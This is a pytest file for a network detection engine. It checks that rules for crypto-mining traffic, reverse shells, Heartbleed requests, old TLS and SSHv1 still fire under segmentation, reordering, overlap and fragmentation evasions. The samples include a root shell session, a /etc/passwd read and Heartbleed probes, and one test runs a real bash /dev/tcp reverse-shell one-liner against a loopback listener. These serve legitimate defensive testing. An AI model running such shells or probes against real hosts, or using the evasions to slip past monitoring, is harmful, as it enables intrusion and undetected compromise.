"""The engine's own detections, each also under evasion: 1-byte segments, reordering,
overlapping junk retransmissions, IP fragmentation, VLAN tags, IPv6."""

from __future__ import annotations

import subprocess
import time

import pytest
from dpirecorder import TcpRecorder
from dpiutil import tcp, udp

from kubeguard.net.pcapgen import (
    dns_query,
    dns_response,
    heartbeat_request,
    tls_client_hello,
    tls_server_hello,
)

EVASIONS = {
    "plain": {},
    "1-byte segments": {"segment": 1},
    "reordered": {"segment": 7, "reorder": True},
    "overlapping junk": {"segment": 5, "overlap": True},
    "reordered + overlaps": {"segment": 3, "reorder": True, "overlap": True},
    "ip fragments": {"fragment": 16},
    "vlan": {"vlan": 42},
}

STRATUM = [(0, b'{"id":1,"method":"mining.subscribe","params":["cpuminer-multi/1.3.7"]}\n'),
           (1, b'{"id":1,"result":[[["mining.notify","ae6812eb4cd7735a"]],"08000002",4],"error":null}\n'),
           (0, b'{"params":["wallet.rig1","x"],"id":2,"method":"mining.authorize"}\n')]
XMRIG = [(0, b'{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"48edfHu7V9Z84Yz","pass":"x",'
             b'"agent":"XMRig/6.21.0 (Linux x86_64) libuv/1.44.2 gcc/12.2.0","algo":["rx/0"]}}\n')]
REVERSE_SHELL = [(0, b"bash: cannot set terminal process group (1): Inappropriate ioctl for device\n"
                     b"bash: no job control in this shell\nroot@web-5d9f:/app# "),
                 (1, b"id\n"), (0, b"uid=0(root) gid=0(root) groups=0(root)\nroot@web-5d9f:/app# ")]
PROMPT_ONLY_SHELL = [(0, b"www-data@shop-6c8:/var/www$ "), (1, b"cat /etc/passwd\n"),
                     (0, b"root:x:0:0:root:/root:/bin/bash\nwww-data@shop-6c8:/var/www$ ")]


@pytest.mark.parametrize("evasion", sorted(EVASIONS))
@pytest.mark.parametrize("name,messages,rule", [
    ("stratum", STRATUM, "Stratum mining protocol"),
    ("xmrig", XMRIG, "Stratum mining protocol"),
    ("reverse shell", REVERSE_SHELL, "Reverse shell on the wire"),
    ("prompt shell", PROMPT_ONLY_SHELL, "Reverse shell on the wire"),
    ("heartbleed", [(0, tls_client_hello("", 0x0302, ())), (1, tls_server_hello(0x0302, None)),
                    (0, heartbeat_request(0x4000, b"\x01"))], "TLS Heartbleed request"),
    ("old tls", [(0, tls_client_hello("legacy.bank", 0x0301, ()))], "Old TLS version offered"),
    ("ssh v1", [(1, b"SSH-1.5-OpenSSH_2.3.0\r\n"), (0, b"SSH-1.5-PuTTY\r\n")], "SSH protocol version 1"),
    ("pool sni", [(0, tls_client_hello("xmr-eu1.nanopool.org"))], "Connection to a known mining pool"),
])
def test_detected_under_evasion(name: str, messages: list[tuple[int, bytes]], rule: str, evasion: str) -> None:
    result = tcp(messages, **EVASIONS[evasion])
    assert rule in result.rules(), (name, evasion, [a.output for a in result.alerts])
    alert = next(a for a in result.alerts if a.rule == rule)
    assert alert.source == "network" and alert.mitre
    assert alert.output_fields["fd.sport"] == 31337


def test_stratum_on_any_port_names_method_and_agent() -> None:
    result = tcp(XMRIG, server=("203.0.113.9", 443))
    flow = result.flow()
    assert flow["net.proto"] == "stratum"
    assert flow["stratum.method"] == "login" and flow["stratum.agent"].startswith("XMRig/6.21.0")
    assert "pass" not in str(flow) or '"pass"' not in str(flow)  # the password is never kept
    alert = result.alerts[0]
    assert alert.output_fields["fd.sport"] == 443 and "T1496" in alert.tags


def test_pool_behind_cdn_cname_in_dns() -> None:
    query = dns_query("edge-17.cdn-assets.example.net")
    answer = dns_response("edge-17.cdn-assets.example.net", cnames=("edge-17.cdn-assets.example.net.cdn.cloudflare.net",
                                                                   "xmr-eu1.nanopool.org"))
    result = udp([(0, query), (1, answer)], client=("10.244.1.9", 41000), server=("10.96.0.10", 53))
    assert result.rules() == {"Connection to a known mining pool"}
    alert = result.alerts[0]
    assert "xmr-eu1.nanopool.org" in alert.output and alert.output_fields["net.pool"] == "nanopool.org"
    assert result.flow()["dns.cnames"][-1] == "xmr-eu1.nanopool.org"


def test_dns_to_pool_over_fragmented_udp() -> None:
    result = udp([(0, dns_query("pool.supportxmr.com", "A"))], fragment=16)
    assert "Connection to a known mining pool" in result.rules()


def test_benign_traffic_raises_nothing() -> None:
    benign = [
        tcp([(0, b"GET / HTTP/1.1\r\nHost: shop\r\n\r\n"), (1, b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")]),
        tcp([(0, tls_client_hello("api.github.com")), (1, tls_server_hello())]),
        tcp([(1, b"SSH-2.0-OpenSSH_9.6\r\n"), (0, b"SSH-2.0-OpenSSH_9.6\r\n")]),
        tcp([(0, b'{"jsonrpc":"2.0","method":"getStatus","id":1}\n'), (1, b'{"jsonrpc":"2.0","result":1,"id":1}\n')]),
        tcp([(0, b"user@laptop:~$ echo this is a chat message about shells\n")]),
        udp([(0, dns_query("www.example.com")), (1, dns_response("www.example.com", cnames=("example.cdn.net",)))]),
    ]
    for result in benign:
        assert result.alerts == [], [a.output for a in result.alerts]


def test_old_tls_negotiated_by_server() -> None:
    result = tcp([(0, tls_client_hello("legacy.bank", 0x0303, ())), (1, tls_server_hello(0x0301, None))])
    assert result.rules() == {"Old TLS version negotiated"}
    assert result.flow()["tls.version"] == "TLSv1.0"


def test_ssh_server_offering_v1() -> None:
    result = tcp([(1, b"SSH-1.99-OpenSSH_3.9p1\r\n"), (0, b"SSH-2.0-OpenSSH_9.6\r\n")])
    alerts = [a for a in result.alerts if a.rule == "SSH protocol version 1"]
    assert len(alerts) == 1 and alerts[0].priority == "Warning"


def test_real_bash_reverse_shell_over_loopback() -> None:
    """A real `bash -i` redirected to a TCP socket (the classic one-liner) against a local listener."""
    replies = [b"id\n", b"exit\n"]
    rec = TcpRecorder(respond=lambda data: replies.pop(0) if replies and data.endswith((b"$ ", b"# ")) else None)
    proc = subprocess.Popen(["bash", "-c", f"exec bash -i >& /dev/tcp/127.0.0.1/{rec.port} 0>&1"],
                            env={"PATH": "/usr/bin:/bin", "PS1": r"\u@\h:\w\$ ", "HOME": "/tmp"},
                            stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        messages = rec.wait()
    finally:
        deadline = time.monotonic() + 5
        while proc.poll() is None and time.monotonic() < deadline:
            time.sleep(0.05)
        if proc.poll() is None:
            proc.kill()
        proc.wait()
    assert any(d == 1 and data == b"id\n" for d, data in messages), messages
    result = tcp(messages, segment=2)
    assert "Reverse shell on the wire" in result.rules()
